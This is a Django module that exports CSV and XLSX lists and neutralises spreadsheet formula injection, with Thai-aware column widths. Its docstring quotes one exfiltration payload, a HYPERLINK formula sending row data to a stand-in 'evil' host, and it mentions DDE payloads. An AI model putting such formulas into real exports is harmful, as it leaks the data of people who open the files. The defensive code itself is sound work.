"""One exporter for every CSV and XLSX the portal writes (pretix's ListExporter idea).

A list export is a header and an iterable of rows; ``ListExporter`` turns it into CSV or XLSX
and is the one place where formulas are neutralised. A cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return would run as a formula in Excel or LibreOffice
(``=HYPERLINK("http://evil/?"&A1, "ดูรายละเอียด")`` leaks the row; DDE payloads run programs):

- in CSV it is written with a leading apostrophe, which spreadsheets show as text;
- in XLSX it is written as a string cell with the "quote prefix" style, never a formula.

Numbers, dates and empty cells are written as they are. Rows are consumed one at a time: a
CSV streams line by line, an XLSX is written with openpyxl's write-only mode into a
temporary file, so a background job can export any number of rows in bounded memory.
"""

import csv
import datetime as dt
import io
import itertools
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal

from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
FORMATS = tuple(CONTENT_TYPES)


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_cell(value):
    """The value as it goes into a CSV: text that could run as a formula gets an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str | int | float | Decimal | dt.date):
        return "'" + value if is_formula_like(value) else value
    text = str(value)  # lazy translations, model choices and the like
    return "'" + text if is_formula_like(text) else text


def unquote_csv_cell(value: str) -> str:
    """The inverse for imports: ``'=x`` read back from our own CSV is ``=x`` again."""
    if isinstance(value, str) and value.startswith("'") and is_formula_like(value[1:]):
        return value[1:]
    return value


class _Line:
    """A file-like object that hands back what csv.writer wrote for one row."""

    def write(self, text):
        return text


class ListExporter:
    """``ListExporter(headers=[…], rows=iterable, filename="communities").response("csv")``.

    Subclasses may instead override ``headers`` and ``rows`` (pretix style)."""

    filename = "export"
    sheet_title = None

    def __init__(self, *, headers=None, rows=None, filename=None, sheet_title=None, stamp=True):
        self._headers = headers
        self._rows = rows
        self.filename = filename or self.filename
        self.sheet_title = sheet_title or self.sheet_title
        self.stamp = stamp

    # What to export ---------------------------------------------------------------------
    def headers(self) -> Sequence[str]:
        return [str(h) for h in self._headers]

    def rows(self) -> Iterable[Sequence]:
        return self._rows

    # CSV ----------------------------------------------------------------------------------
    def iter_csv(self) -> Iterator[bytes]:
        """UTF-8 with a BOM (so Excel reads Thai), one encoded line per row."""
        writer = csv.writer(_Line())
        yield "\ufeff".encode() + writer.writerow([csv_cell(h) for h in self.headers()]).encode()
        for row in self.rows():
            yield writer.writerow([csv_cell(value) for value in row]).encode("utf-8")

    def write_csv(self, fileobj) -> None:
        for line in self.iter_csv():
            fileobj.write(line)

    # XLSX ---------------------------------------------------------------------------------
    def write_xlsx(self, fileobj) -> None:
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.styles import Font

        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet(title=_sheet_title(self.sheet_title))
        # The header stays in view while scrolling; columns as wide as their text. A write-only
        # sheet takes both before its first row: the widths come from the header and the first
        # FIT_ROWS rows, held back meanwhile (bounded memory whatever the file's length).
        sheet.freeze_panes = "A2"
        headers = list(self.headers())
        rows = iter(self.rows())
        first = list(itertools.islice(rows, FIT_ROWS))
        for letter, width in column_widths([headers, *first]).items():
            sheet.column_dimensions[letter].width = width

        def cell(value, *, bold=False):
            value = _xlsx_value(value)
            written = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                written.data_type = "s"  # never "f": text stays text, whatever it starts with
                if is_formula_like(value):
                    written.quotePrefix = True  # stays text even after editing in Excel
            if bold:
                written.font = Font(bold=True)
            return written

        sheet.append([cell(h, bold=True) for h in headers])
        for row in itertools.chain(first, rows):
            sheet.append([cell(value) for value in row])
        workbook.save(fileobj)

    def xlsx_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self.write_xlsx(buffer)
        return buffer.getvalue()

    # HTTP -----------------------------------------------------------------------------------
    def download_name(self, fmt: str) -> str:
        if self.stamp:
            return f"{self.filename}-{timezone.localdate():%Y%m%d}.{fmt}"
        return f"{self.filename}.{fmt}"

    def response(self, fmt: str):
        if fmt not in CONTENT_TYPES:
            raise ValueError(f"unknown export format {fmt!r}")
        disposition = content_disposition_header(True, self.download_name(fmt))
        if fmt == "csv":
            response = StreamingHttpResponse(self.iter_csv(), content_type=CONTENT_TYPES["csv"])
        else:
            # openpyxl needs a seekable file: spill to disk beyond a few MB, never to memory.
            spool = tempfile.SpooledTemporaryFile(max_size=8 * 1024 * 1024)  # noqa: SIM115 - FileResponse closes it
            self.write_xlsx(spool)
            spool.seek(0)
            response = FileResponse(spool, content_type=CONTENT_TYPES["xlsx"])
        response["Content-Disposition"] = disposition
        return response


def _sheet_title(title) -> str | None:
    if not title:
        return None
    cleaned = "".join(ch for ch in str(title) if ch not in "[]:*?/\\")
    return cleaned[:31] or None


def _xlsx_value(value):
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, dt.datetime):
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, dt.date | str):
        return value
    return str(value)


FIT_ROWS = 200  # rows measured to fit the columns of an export
MIN_WIDTH, MAX_WIDTH = 6, 60  # in Excel's character widths


def display_width(value) -> int:
    """How many characters wide a cell's text shows: Thai vowel and tone marks above or below
    a letter take no width of their own."""
    if value is None:
        return 0
    text = value.isoformat() if isinstance(value, dt.date) else str(value)
    longest = max(text.splitlines() or [""], key=len)
    marks = sum(
        1
        for ch in longest
        if ch == "\u0e31" or "\u0e34" <= ch <= "\u0e3a" or "\u0e47" <= ch <= "\u0e4e"
    )
    return len(longest) - marks


def column_widths(rows) -> dict[str, float]:
    """Column letter → width that fits the widest cell of ``rows`` (within MIN/MAX_WIDTH)."""
    from openpyxl.utils import get_column_letter

    widest = {}
    for row in rows:
        for index, value in enumerate(row, start=1):
            widest[index] = max(widest.get(index, 0), display_width(value))
    return {
        get_column_letter(index): float(min(max(width + 2, MIN_WIDTH), MAX_WIDTH))
        for index, width in widest.items()
    }


def fit_sheet(sheet, *, freeze_header: bool = True) -> None:
    """For a sheet built in openpyxl's normal mode: columns fitted, header row frozen."""
    for letter, width in column_widths(sheet.iter_rows(values_only=True)).items():
        sheet.column_dimensions[letter].width = width
    if freeze_header:
        sheet.freeze_panes = "A2"


def neutralise_sheet(sheet) -> None:
    """For a sheet built in openpyxl's normal mode: every formula-like text becomes text."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f" or is_formula_like(cell.value):
                cell.data_type = "s"
                cell.quotePrefix = True


def resource_exporter(resource, queryset, *, filename, sheet_title=None) -> ListExporter:
    """A django-import-export resource's export, row by row instead of one tablib Dataset."""
    return ListExporter(
        headers=resource.get_export_headers(),
        rows=(resource.export_resource(obj) for obj in resource.iter_queryset(queryset)),
        filename=filename,
        sheet_title=sheet_title,
    )
